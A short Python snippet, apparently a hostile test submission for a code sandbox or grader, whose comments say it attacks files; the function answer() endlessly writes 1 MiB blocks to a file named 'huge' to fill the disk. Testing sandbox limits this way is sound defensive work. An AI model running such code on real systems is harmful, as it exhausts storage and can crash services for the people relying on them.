# Tries: writes one huge file.
# Attacks: files
# Ends: output
def answer(n, user):
    with open('huge', 'wb') as file:
        while True:
            file.write(bytes(1 << 20))
